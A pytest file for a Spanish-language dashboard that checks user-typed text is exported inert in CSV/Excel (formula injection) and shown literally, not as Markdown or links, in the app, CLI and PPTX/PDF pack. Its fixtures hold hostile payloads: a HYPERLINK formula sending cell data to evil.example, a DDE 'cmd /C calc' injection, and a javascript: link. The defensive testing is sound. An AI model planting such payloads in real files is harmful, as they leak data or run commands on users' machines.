"""Typed text comes out inert: never a live formula in a CSV, TSV or Excel file (pages, CLI),
and shown as typed — never as Markdown, HTML or a link — in the app and the committee pack.

Hostile text is stored with the real writers (ANS report, saved cohort, territorial alert,
tracking-matrix import, account creation) and read back through the real downloads
(``download_table``'s buttons), the tables shown (``data_table``: their toolbar CSV export),
``tablero`` commands and the pack.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import re
import zlib

import pandas as pd
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from openpyxl import Workbook, load_workbook
from pptx import Presentation
from sqlalchemy import update

from cli.main import tablero
from components.core.figures import plain
from data_access.alliance import tracking_matrix as tm
from data_access.core.auth import viewer_for_username
from data_access.core.db import session_scope
from data_access.core.filters import GlobalFilters
from data_access.core.models import Operator, RegionalOffice
from data_access.edits import accounts, alerts
from data_access.edits import sla as sla_edits
from data_access.routes import funnels as F
from exports import pdf_writer, tables
from exports.pack import build_pack
from rules.core.catalog import ALERT_CATEGORIES, Role
from rules.core.nit import format_nit
from rules.routes.funnels import Cohort
from tests.apptest_utils import open_tab, run_app, spy_downloads

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver soporte")'
HOSTILE = (LEAK, "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
# Markdown, HTML and links a person could type as a name or a piece of evidence.
MARKED = '**Ana** [soporte](http://evil.example/?leak=1) <b>negrita</b> [b](javascript:alert(1))'
QUARTER = "2026Q3"
OPERATOR_ID, OPERATOR_CODE = 17, "OP-0017"  # the demo «operador» account's operator (a PSDE too)
CONTRACT = "CT-COM-CAR-001"  # one of its contracts: nine reported ANS
MARKDOWN = MarkdownIt("commonmark").enable(["strikethrough", "table"])


# ------------------------------------------------------------------ reading files back

def live_fields(fields) -> list[str]:
    """Fields a spreadsheet would run as a formula."""
    return [f for f in fields if f.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(f)]


def csv_fields(text: str, sep: str = ",") -> list[str]:
    return [f for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for f in row]


def xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_inert_files(files: dict[str, bytes], stem: str, expected: str) -> None:
    """The CSV and Excel downloads named ``stem``: no live field, no formula cell, and
    ``expected`` present as text (with its apostrophe in the CSV)."""
    text = files[f"{stem}.csv"].decode("utf-8-sig")
    fields = csv_fields(text, ";")  # the page's CSV as Excel es-CO reads it
    assert live_fields(fields) == []
    assert "'" + expected in fields
    cells = xlsx_cells(files[f"{stem}.xlsx"])
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert expected in {c.value for c in cells if c.data_type == "s"}


def offered_stem(files, prefix: str) -> str:
    """The name (without extension) of the CSV offered whose name starts with ``prefix`` (then scope, cut-off)."""
    return next(n for n in files.offered if n.startswith(prefix) and n.endswith(".csv")).removesuffix(".csv")


def cli(url: str, *args: str) -> str:
    res = CliRunner().invoke(tablero, list(args), env={"DATABASE_URL": url}, catch_exceptions=False)
    assert res.exit_code == 0, res.output
    return res.output


def assert_inert_table(output: str, expected: str) -> None:
    """The CLI text table: ``expected`` shown inert, one row per line (no raw tab or carriage return)."""
    assert "\t" not in output and "\r" not in output
    assert "'" + expected in output
    cells = [c for line in output.splitlines() for c in re.split(r" {2,}", line.strip())]
    assert live_fields(cells) == []


def as_html_text(typed: str) -> str:
    """``typed`` as CommonMark writes plain text into HTML."""
    return typed.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def assert_literal(markdown: str, typed: str) -> None:
    """Rendered as Streamlit renders Markdown (CommonMark), ``typed`` is one run of plain
    text — no tag (bold, link, HTML) inside it — and nothing on the line is a link."""
    rendered = MARKDOWN.renderInline(markdown)
    assert as_html_text(" ".join(typed.split())) in rendered, rendered
    assert "<a " not in rendered, rendered


@pytest.fixture
def downloads(monkeypatch) -> dict[str, bytes]:
    """Every file a page offers (file name → bytes), made by the real download buttons' builders."""
    made = spy_downloads(monkeypatch)

    class Files(dict):
        offered = made

        def __missing__(self, name):
            data = made[name]
            self[name] = value = data() if callable(data) else data
            return value

    return Files()


# ------------------------------------------------------------------ writers

def report_evidence(url: str, evidence: list[str]) -> None:
    """The operador reports ANS values of ``QUARTER`` (0: a breach) with ``evidence``, one per indicator."""
    viewer = viewer_for_username("operador", url)
    contract = next(c for c in sla_edits.sla_contracts(viewer, url=url) if c["code"] == CONTRACT)
    rows = sla_edits.sla_values(viewer, contract["id"], QUARTER, url=url)
    assert len(rows) >= len(evidence)
    for row, text in zip(rows, evidence):
        sla_edits.report_sla(viewer, contract["id"], row["definition_id"], QUARTER, 0, evidence_ref=text,
                             opened_version=row["version"], url=url)


def save_cohorts(url: str, names) -> None:
    viewer = viewer_for_username("analista", url)
    for name in names:
        F.save_cohort(viewer, name, Cohort(), url=url)


def import_matrix(url: str, texts) -> None:
    """A tracking matrix whose OPR names, allies and supports are ``texts``."""
    wb = Workbook()
    ws = wb.active
    ws.title = "planes_negocio"
    ws.append(["codigo_pn", "nit_opr", "nombre_opr", "ventana", "cod_municipio", "cadena_valor", "psde",
               "fecha_primer_desembolso", "fecha_cierre"])
    ev = wb.create_sheet("evidencias")
    ev.append(["codigo_pn", "tipo", "tipo_aliado", "aliado", "fecha_inicio", "fecha_fin", "soporte"])
    for i, text in enumerate(texts):
        code = f"PN-INERTE-{i}"
        ws.append([code, format_nit(f"95123450{i}"), text, 1, "05001", "Café", "OP-0001",
                   dt.date(2024, 8, 31), dt.date(2025, 10, 1)])
        ev.append([code, "contrato", "comercial", text, dt.date(2025, 1, 1), None, text])
    for sheet in (ws, ev):  # imported cells hold the text as text (a formula cell has no value to import)
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    report = tm.import_tracking_matrix(buf.getvalue(), viewer_for_username("analista", url), url=url)
    assert report.ok and report.changed, report.lines()


def create_accounts(url: str, names) -> None:
    admin = viewer_for_username("admin", url)
    for i, name in enumerate(names):
        accounts.create_user(admin, {"username": f"persona{i}", "display_name": name, "role": Role.DIRECTIVO,
                                     "email": f"persona{i}@demo.tablero.gov.co"}, url=url)


def rename_operator(url: str, name: str) -> None:
    """Operators are reference data (no edit form): renamed as the catalogue's loader would."""
    with session_scope(url, write=True) as s:
        s.execute(update(Operator).where(Operator.id == OPERATOR_ID).values(name=name))


# ================================================================== 1. formula injection

def test_inert_text_neutralises_formulas_and_keeps_numbers():
    assert [tables.inert_text(h) for h in HOSTILE] == ["'" + h for h in HOSTILE]
    kept = (-5, "-5", "+57 300", "-1.234,5", "-12,5 %", "+19,3 pp", "+$ 82.460", "Ana", None)
    assert [tables.inert(v) for v in kept] == list(kept)
    assert tables.inert_text("+19 pp+A1") == "'+19 pp+A1"


def test_table_files_from_a_frame_hold_no_live_formula():
    frame = pd.DataFrame({"texto": list(HOSTILE), "n": range(-3, 3), LEAK: ["-5"] * 6})
    for sep in (",", "\t"):
        fields = csv_fields(tables.csv_text(frame, sep), sep)
        assert live_fields(fields) == [] and "'" + LEAK in fields and "-5" in fields and "-3" in fields
    cells = xlsx_cells(tables.xlsx_bytes(frame))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {c.value for c in cells if c.data_type == "s"} >= {*HOSTILE, LEAK, "-5"}
    assert {c.value for c in cells if c.data_type == "n"} == set(range(-3, 3))


def test_ans_evidence_is_inert_in_the_sla_downloads(demo_store_rw, downloads):
    report_evidence(demo_store_rw, list(HOSTILE))
    at = run_app(demo_store_rw, "analista", page="pages/sla.py",
                 query={"operador": OPERATOR_CODE, "trimestre": QUARTER})
    assert not at.exception
    assert_inert_files(downloads, offered_stem(downloads, f"ans_{OPERATOR_CODE}_{QUARTER}_"), LEAK)


def test_ans_evidence_is_inert_in_the_sla_cli(demo_store_rw):
    report_evidence(demo_store_rw, list(HOSTILE))
    args = ("sla", "scorecard", "--quarter", QUARTER, "--operator", OPERATOR_CODE, "--as-user", "analista")
    rows = list(csv.DictReader(io.StringIO(cli(demo_store_rw, *args, "--format", "csv"), newline="")))
    evidence = {r["evidencia"] for r in rows}
    assert "'" + LEAK in evidence and "'@SUM(1)" in evidence and "'-2+3" in evidence
    assert live_fields([f for r in rows for f in r.values()]) == []
    assert_inert_table(cli(demo_store_rw, *args), LEAK)
    as_stored = json.loads(cli(demo_store_rw, *args, "--format", "json"))
    assert LEAK in {r["evidencia"] for r in as_stored}


def test_imported_matrix_cells_are_inert_in_the_alliance_downloads(demo_store_rw, downloads):
    import_matrix(demo_store_rw, HOSTILE)
    at = run_app(demo_store_rw, "analista", page="pages/alliance.py")
    assert not at.exception
    assert_inert_files(downloads, offered_stem(downloads, "alianzas_pn_all_"), LEAK)


def test_saved_cohort_names_are_inert_in_the_routes_cli(demo_store_rw):
    save_cohorts(demo_store_rw, HOSTILE)
    args = ("routes", "cohorts", "--as-user", "analista")
    names = [r["name"] for r in csv.DictReader(io.StringIO(cli(demo_store_rw, *args, "--format", "csv"),
                                                           newline=""))]
    assert "'" + LEAK in names and "'+cmd|' /C calc'!A0" in names and "'=1" in names
    assert live_fields(names) == []
    assert_inert_table(cli(demo_store_rw, *args), LEAK)


def test_alert_description_is_inert_in_the_audit_download_and_cli(demo_store_rw, downloads):
    viewer = viewer_for_username("analista", demo_store_rw)
    for text in HOSTILE:
        alerts.open_alert(viewer, {"municipality_code": "05001", "category": next(iter(ALERT_CATEGORIES)),
                                   "severity": "alta", "description": text}, url=demo_store_rw)
    at = run_app(demo_store_rw, "analista", page="pages/audit.py")
    assert not at.exception
    stem = offered_stem(downloads, "auditoria_")
    fields = csv_fields(downloads[f"{stem}.csv"].decode("utf-8-sig"), ";")
    assert any(LEAK in f for f in fields) and live_fields(fields) == []
    assert [c.coordinate for c in xlsx_cells(downloads[f"{stem}.xlsx"]) if c.data_type == "f"] == []
    fields = csv_fields(cli(demo_store_rw, "audit", "log", "--entity", "territorial_alert", "--format", "csv"))
    assert any(LEAK in f for f in fields) and live_fields(fields) == []


def test_display_names_are_inert_in_the_users_cli(demo_store_rw):
    create_accounts(demo_store_rw, HOSTILE)
    names = [r["display_name"] for r in csv.DictReader(io.StringIO(cli(demo_store_rw, "users", "list", "--format",
                                                                       "csv"), newline=""))]
    assert {"'" + h.strip() for h in HOSTILE} <= set(names)  # the writer trims the name
    assert live_fields(names) == []
    assert_inert_table(cli(demo_store_rw, "users", "list"), LEAK)


# ================================================================== 7. typed text shown as typed

def test_plain_markdown_shows_text_as_typed():
    for typed in (MARKED, *HOSTILE, "# título", "1. uno", "- guion", "> cita", "`código`", "a_b_c", "~~x~~",
                  "$x$", "www.evil.example", "ana@evil.example", "&lt;b&gt;", "| a | b |", "Bogotá, D.C."):
        assert MARKDOWN.renderInline(plain(typed)) == as_html_text(" ".join(typed.split()))


def test_display_name_shows_literally_in_the_sidebar(demo_store_rw):
    create_accounts(demo_store_rw, [MARKED])
    at = run_app(demo_store_rw, "persona0")
    assert not at.exception
    identity = next(m.value for m in at.sidebar.markdown if "·" in m.value)
    assert_literal(identity, MARKED)


def test_drill_chip_shows_a_name_literally(demo_store_rw):
    rename_operator(demo_store_rw, MARKED)
    at = run_app(demo_store_rw, "analista", page="pages/alliance.py", query={"al_psde": str(OPERATOR_ID)})
    assert not at.exception
    assert_literal(at.button(key="al_chip_psde").label, MARKED)


def test_ans_evidence_shows_literally_in_the_breach_list(demo_store_rw):
    report_evidence(demo_store_rw, [MARKED])
    at = run_app(demo_store_rw, "analista", page="pages/sla.py",
                 query={"operador": OPERATOR_CODE, "trimestre": QUARTER})
    assert not at.exception
    breaches = next(m.value for m in at.markdown if "soporte" in m.value and m.value.startswith("- "))
    line = next(line for line in breaches.splitlines() if "soporte" in line)
    assert_literal(line.removeprefix("- "), MARKED)


def test_saved_cohort_name_shows_literally_in_the_comparison(demo_store_rw):
    save_cohorts(demo_store_rw, [MARKED])
    at = run_app(demo_store_rw, "analista", page="pages/routes.py")
    at.radio(key="rt_view").set_value("compare").run()
    assert not at.exception
    heading = next(m.value for m in at.markdown if "soporte" in m.value)
    assert_literal(heading, MARKED)
    legend = {t.get("name") for c in at.get("plotly_chart") for t in json.loads(c.proto.spec)["data"]}
    assert html.escape(MARKED, quote=False) in legend


def _pack_text(data: bytes) -> tuple[list[str], list[str]]:
    """(every text of the PPTX's shapes and tables, every hyperlink address)."""
    prs = Presentation(io.BytesIO(data))
    texts, links = [], []
    for slide in prs.slides:
        for shape in slide.shapes:
            frames = [shape.text_frame] if shape.has_text_frame else []
            if shape.has_table:
                frames += [cell.text_frame for row in shape.table.rows for cell in row.cells]
            for frame in frames:
                for p in frame.paragraphs:
                    texts.append("".join(r.text for r in p.runs))
                    links += [r.hyperlink.address for r in p.runs if r.hyperlink.address]
    return texts, links


def _marked_pack(url: str, fmt: str) -> bytes:
    """A comité's ANS and overview slides, its office and every operator named ``MARKED``."""
    viewer = viewer_for_username("comite", url)
    with session_scope(url, write=True) as s:
        s.execute(update(Operator).values(name=MARKED))
        s.execute(update(RegionalOffice).where(RegionalOffice.id == viewer.regional_office_id).values(name=MARKED))
    viewer = viewer_for_username("comite", url)
    filters = GlobalFilters(cutoff=dt.date(2026, 9, 30))
    return build_pack(viewer, filters, ["sla", "overview"], fmt=fmt, url=url, images={}, use_cache=False).data


def test_pack_pptx_shows_names_literally(demo_store_rw):
    texts, links = _pack_text(_marked_pack(demo_store_rw, "pptx"))
    assert any(MARKED in t for t in texts)  # the scope line and the ANS table
    assert links == []


def test_pack_pdf_draws_names_literally(demo_store_rw, monkeypatch):
    monkeypatch.setattr(pdf_writer, "FONT_CANDIDATES", [])  # core font: the page streams hold the text itself
    data = _marked_pack(demo_store_rw, "pdf")
    streams = b"".join(zlib.decompress(m.group(1)) for m in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data,
                                                                        re.S))
    drawn = MARKED.replace("(", r"\(").replace(")", r"\)").encode("latin-1")
    assert drawn in streams
    assert b"/URI" not in data and b"/Link" not in data


# ------------------------------------------------------------------ tables shown in the app
# Every table's toolbar offers Streamlit's own "Download as CSV", written in the browser from
# the shown data without neutralising formulas: the shown text must already be inert.

def shown_table(at, column: str):
    """The data of the run's one table that has ``column``, as sent to the browser."""
    found = [d.value for d in at.dataframe if column in d.value.columns]
    assert len(found) == 1, [list(d.value.columns) for d in at.dataframe]
    return found[0]


def text_cells(df) -> list[str]:
    return [v for col in df.columns for v in df[col] if isinstance(v, str)]


def test_ans_evidence_is_inert_in_the_shown_sla_table(demo_store_rw):
    report_evidence(demo_store_rw, [*HOSTILE, "-5"])
    at = run_app(demo_store_rw, "analista", page="pages/sla.py",
                 query={"operador": OPERATOR_CODE, "trimestre": QUARTER})
    assert not at.exception
    df = shown_table(at, "Evidencia / cálculo")
    evidence = set(df["Evidencia / cálculo"])
    assert {"'" + LEAK, "'@SUM(1)", "'+cmd|' /C calc'!A0", "'-2+3", "'=1"} <= evidence
    assert "-5" in evidence
    assert live_fields(text_cells(df)) == []
    assert pd.api.types.is_numeric_dtype(df["Peso"])


def test_alert_description_is_inert_in_the_shown_alerts_table(demo_store_rw):
    viewer = viewer_for_username("analista", demo_store_rw)
    for text in (*HOSTILE, "-5"):
        alerts.open_alert(viewer, {"municipality_code": "05001", "category": next(iter(ALERT_CATEGORIES)),
                                   "severity": "alta", "description": text}, url=demo_store_rw)
    at = open_tab(run_app(demo_store_rw, "analista", page="pages/edit.py"), "Alertas territoriales")
    assert not at.exception
    df = shown_table(at, "Descripción")
    descriptions = set(df["Descripción"])
    assert {"'" + LEAK, "'@SUM(1)", "'+cmd|' /C calc'!A0", "'-2+3", "'=1"} <= descriptions
    assert "-5" in descriptions
    assert live_fields(text_cells(df)) == []
    assert pd.api.types.is_integer_dtype(df["id"]) and pd.api.types.is_integer_dtype(df["Versión"])


def test_shown_table_keeps_numbers_dates_and_column_config():
    from streamlit.testing.v1 import AppTest

    def page():
        import datetime as dt

        import pandas as pd
        import streamlit as st

        from components.core.figures import data_table

        frame = pd.DataFrame({"=total": [-5, 7], "fecha": [dt.date(2025, 1, 2), None], "texto": ["@SUM(1)", None]})
        data_table(frame, hide_index=True, column_config={"=total": st.column_config.NumberColumn("Total")})
        st.write(list(frame.columns))  # the caller's frame is left as it was

    at = AppTest.from_function(page).run()
    assert not at.exception
    df = at.dataframe[0].value
    assert list(df.columns) == ["'=total", "fecha", "texto"]
    assert list(df["'=total"]) == [-5, 7] and pd.api.types.is_integer_dtype(df["'=total"])
    assert df["fecha"][0] == dt.date(2025, 1, 2) and pd.isna(df["fecha"][1])
    assert df["texto"][0] == "'@SUM(1)" and pd.isna(df["texto"][1])
    assert '"Total"' in at.dataframe[0].proto.columns and "'=total" in at.dataframe[0].proto.columns
    assert json.loads(at.json[0].value) == ["=total", "fecha", "texto"]
